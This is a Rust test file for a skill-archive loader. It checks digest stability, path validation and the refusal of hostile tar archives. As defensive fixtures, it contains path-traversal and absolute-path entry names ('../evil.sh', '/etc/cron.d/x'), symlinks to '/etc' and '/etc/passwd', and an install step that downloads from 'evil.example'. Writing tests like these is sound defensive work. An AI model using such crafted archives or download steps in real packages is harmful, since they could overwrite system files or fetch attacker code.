#![allow(clippy::unwrap_used)]

use std::io::Write as _;

use super::*;

const SKILL_MD_TEXT: &[u8] =
    b"---\nname: weather\ndescription: Forecasts\n---\nRun scripts/get.sh\n";

/// A `.tar.gz` of `entries` (path, bytes, mode), in that order.
fn tar_gz(entries: &[(&str, &[u8], u32)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (path, bytes, mode) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(*mode);
        header.set_mtime(1_700_000_000);
        header.set_entry_type(tar::EntryType::Regular);
        builder.append_data(&mut header, path, *bytes).unwrap();
    }
    gzip(&builder.into_inner().unwrap())
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn weather(script: &[u8], script_mode: u32) -> Vec<(&'static str, Vec<u8>, u32)> {
    vec![
        ("SKILL.md", SKILL_MD_TEXT.to_vec(), 0o644),
        ("scripts/get.sh", script.to_vec(), script_mode),
        ("README.txt", b"notes".to_vec(), 0o600),
    ]
}

fn digest_of(entries: &[(&'static str, Vec<u8>, u32)]) -> Digest {
    let borrowed: Vec<(&str, &[u8], u32)> = entries
        .iter()
        .map(|(p, b, m)| (*p, b.as_slice(), *m))
        .collect();
    SkillTree::from_tar_gz(&tar_gz(&borrowed)).unwrap().digest()
}

#[test]
fn the_digest_does_not_depend_on_the_archives_order_times_or_other_mode_bits() {
    let entries = weather(b"#!/bin/sh\ncurl wttr.in\n", 0o755);
    let mut reversed = entries.clone();
    reversed.reverse();
    // Other bits than execute: 0600 and 0644 are both "644".
    reversed[0].2 = 0o600;
    assert_eq!(digest_of(&entries), digest_of(&reversed));
    // The same files under one folder, as `tar czf weather.tgz weather` makes.
    let nested: Vec<(&'static str, Vec<u8>, u32)> = vec![
        ("weather/SKILL.md", SKILL_MD_TEXT.to_vec(), 0o644),
        (
            "weather/scripts/get.sh",
            b"#!/bin/sh\ncurl wttr.in\n".to_vec(),
            0o700,
        ),
        ("weather/README.txt", b"notes".to_vec(), 0o644),
    ];
    assert_eq!(digest_of(&entries), digest_of(&nested));
}

#[test]
fn the_digest_is_the_documented_listing() {
    let tree = SkillTree::from_tar_gz(&tar_gz(&[("SKILL.md", SKILL_MD_TEXT, 0o644)])).unwrap();
    let listing = format!(
        "hardshell-skill-tree-v1\n644 {} SKILL.md\n",
        crate::sha256(SKILL_MD_TEXT).hex()
    );
    assert_eq!(tree.digest(), crate::sha256(listing.as_bytes()));
}

#[test]
fn one_byte_or_one_exec_bit_changes_the_digest() {
    let base = digest_of(&weather(b"#!/bin/sh\ncurl wttr.in\n", 0o755));
    let one_byte = digest_of(&weather(b"#!/bin/sh\ncurl wttr.io\n", 0o755));
    let not_executable = digest_of(&weather(b"#!/bin/sh\ncurl wttr.in\n", 0o644));
    assert_ne!(base, one_byte);
    assert_ne!(base, not_executable);
    assert_ne!(one_byte, not_executable);
}

#[test]
fn a_directory_and_its_archive_have_one_digest() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("scripts")).unwrap();
    std::fs::write(dir.path().join("SKILL.md"), SKILL_MD_TEXT).unwrap();
    let script = dir.path().join("scripts/get.sh");
    std::fs::write(&script, b"#!/bin/sh\ncurl wttr.in\n").unwrap();
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(dir.path().join("README.txt"), b"notes").unwrap();
    let from_dir = SkillTree::read(dir.path()).unwrap();
    assert_eq!(
        from_dir.digest(),
        digest_of(&weather(b"#!/bin/sh\ncurl wttr.in\n", 0o755))
    );
    // Kept as the lock keeps it, and read back: the same digest.
    let kept = SkillTree::from_tar(from_dir.to_tar().unwrap().as_slice()).unwrap();
    assert_eq!(kept, from_dir);

    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("link")).unwrap();
    assert!(matches!(
        SkillTree::read(dir.path()),
        Err(SkillError::EntryKind {
            kind: "symlink",
            ..
        })
    ));
}

#[test]
fn hostile_archives_are_refused() {
    let md = SKILL_MD_TEXT;
    // Names the tar crate's builder will not write are written raw.
    let raw_named = |name: &[u8], kind: tar::EntryType, link: Option<&str>| {
        let mut builder = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_gnu();
        header.set_size(md.len() as u64);
        header.set_mode(0o644);
        header.set_entry_type(tar::EntryType::Regular);
        builder.append_data(&mut header, "SKILL.md", md).unwrap();
        let mut header = tar::Header::new_old();
        header.as_old_mut().name[..name.len()].copy_from_slice(name);
        header.set_entry_type(kind);
        header.set_mode(0o644);
        if let Some(link) = link {
            header.set_link_name(link).unwrap();
        }
        let body: &[u8] = if kind == tar::EntryType::Regular {
            b"x"
        } else {
            b""
        };
        header.set_size(body.len() as u64);
        header.set_cksum();
        builder.append(&header, body).unwrap();
        gzip(&builder.into_inner().unwrap())
    };
    use hardshell_audit::event::ModuleRefusal as R;
    // Each with the refusal it must get: any refusal would not do (a header
    // this test wrote wrong is refused too, as no archive).
    let cases: Vec<(&str, Vec<u8>, R)> = vec![
        (
            "dot-dot",
            raw_named(b"../evil.sh", tar::EntryType::Regular, None),
            R::EntryRefused,
        ),
        (
            "absolute",
            raw_named(b"/etc/cron.d/x", tar::EntryType::Regular, None),
            R::EntryRefused,
        ),
        (
            "symlink",
            raw_named(b"scripts", tar::EntryType::Symlink, Some("/etc")),
            R::EntryRefused,
        ),
        (
            "hard link",
            raw_named(b"h", tar::EntryType::Link, Some("SKILL.md")),
            R::EntryRefused,
        ),
        (
            "device",
            raw_named(b"dev", tar::EntryType::Char, None),
            R::EntryRefused,
        ),
        (
            "duplicate",
            raw_named(b"SKILL.md", tar::EntryType::Regular, None),
            R::EntryRefused,
        ),
        (
            "file and folder",
            raw_named(b"SKILL.md/x", tar::EntryType::Regular, None),
            R::EntryRefused,
        ),
        (
            "no SKILL.md",
            tar_gz(&[("other.md", md, 0o644)]),
            R::Archive,
        ),
        ("not gzip", b"plain text".to_vec(), R::Archive),
    ];
    for (what, archive, refusal) in cases {
        let error = SkillTree::from_tar_gz(&archive).unwrap_err();
        assert_eq!(error.refusal(), Some(refusal), "{what}: {error:?}");
    }
    assert!(matches!(
        SkillTree::from_tar_gz(&raw_named(b"a/../x", tar::EntryType::Regular, None)),
        Err(SkillError::EntryName { .. })
    ));
    // Too many entries.
    let many: Vec<(String, &[u8], u32)> = (0..=MAX_SKILL_ENTRIES)
        .map(|i| (format!("f{i}"), &b"x"[..], 0o644))
        .collect();
    let many: Vec<(&str, &[u8], u32)> = many.iter().map(|(p, b, m)| (p.as_str(), *b, *m)).collect();
    assert!(matches!(
        SkillTree::from_tar_gz(&tar_gz(&many)),
        Err(SkillError::TooManyEntries { .. })
    ));
    // A file over its limit, compressed to almost nothing.
    let big = vec![0u8; MAX_SKILL_FILE_BYTES as usize + 1];
    assert!(matches!(
        SkillTree::from_tar_gz(&tar_gz(&[("SKILL.md", md, 0o644), ("big", &big, 0o644)])),
        Err(SkillError::FileTooLarge { .. })
    ));
    // Many files each under the limit, over the skill's total.
    let part = vec![0u8; MAX_SKILL_FILE_BYTES as usize];
    let names: Vec<String> = (0..5).map(|i| format!("part{i}")).collect();
    let mut parts: Vec<(&str, &[u8], u32)> = vec![("SKILL.md", md, 0o644)];
    parts.extend(names.iter().map(|n| (n.as_str(), part.as_slice(), 0o644)));
    assert!(matches!(
        SkillTree::from_tar_gz(&tar_gz(&parts)),
        Err(SkillError::TooLarge { .. })
    ));
}

#[test]
fn review_lists_scripts_and_install_steps() {
    let md = b"---\nname: weather\ndescription: Forecasts\nmetadata: {\"openclaw\": {\"install\": [{\"kind\": \"download\", \"url\": \"https://evil.example/x\"}]}}\n---\n";
    let archive = tar_gz(&[
        ("SKILL.md", md, 0o644),
        ("scripts/get.sh", b"curl x", 0o644),
        ("bin/tool", b"\x7fELF", 0o755),
        ("lib/run", b"#!/usr/bin/env node\n", 0o644),
        ("notes.md", b"# notes", 0o644),
    ]);
    let skill = Skill::review(SkillTree::from_tar_gz(&archive).unwrap()).unwrap();
    assert_eq!(skill.name.as_str(), "weather");
    let scripts: Vec<&str> = skill.scripts().iter().map(|p| p.as_str()).collect();
    assert_eq!(scripts, ["bin/tool", "lib/run", "scripts/get.sh"]);
    assert_eq!(skill.front_matter.install.len(), 1);

    let bad_name = tar_gz(&[("SKILL.md", b"---\nname: ../x\ndescription: d\n---\n", 0o644)]);
    assert!(matches!(
        Skill::review(SkillTree::from_tar_gz(&bad_name).unwrap()),
        Err(SkillError::Name { .. })
    ));
}

#[test]
fn a_git_archive_global_header_is_no_file() {
    let mut builder = tar::Builder::new(Vec::new());
    let comment = b"52 comment=0123456789abcdef0123456789abcdef01234567\n";
    let mut header = tar::Header::new_ustar();
    header.set_entry_type(tar::EntryType::XGlobalHeader);
    header.set_size(comment.len() as u64);
    header.set_mode(0o644);
    builder
        .append_data(&mut header, "pax_global_header", &comment[..])
        .unwrap();
    let mut header = tar::Header::new_ustar();
    header.set_size(SKILL_MD_TEXT.len() as u64);
    header.set_mode(0o644);
    builder
        .append_data(&mut header, "weather/SKILL.md", SKILL_MD_TEXT)
        .unwrap();
    let tree = SkillTree::from_tar_gz(&gzip(&builder.into_inner().unwrap())).unwrap();
    let paths: Vec<&str> = tree.files().keys().map(SkillPath::as_str).collect();
    assert_eq!(paths, ["SKILL.md"]);
}

#[test]
fn a_skill_path_has_one_spelling_inside_the_skill() {
    let deepest = ["d"; 8].join("/");
    let longest = "a".repeat(256);
    for good in [
        "SKILL.md",
        "scripts/get.sh",
        "a+b/c_d-e.1",
        &deepest,
        &longest,
    ] {
        assert_eq!(SkillPath::parse(good).unwrap().as_str(), good);
    }
    let too_deep = ["d"; 9].join("/");
    let too_long = "a".repeat(257);
    for bad in [
        "",
        ".",
        "..",
        "a/../b",
        "./a",
        "a/./b",
        "/a",
        "a/",
        "a//b",
        "a b",
        "a\\b",
        "a\nb",
        "\u{e9}",
        "a\u{202e}b",
        &too_deep,
        &too_long,
    ] {
        assert!(
            matches!(SkillPath::parse(bad), Err(SkillError::EntryName { .. })),
            "{bad:?}"
        );
    }
}
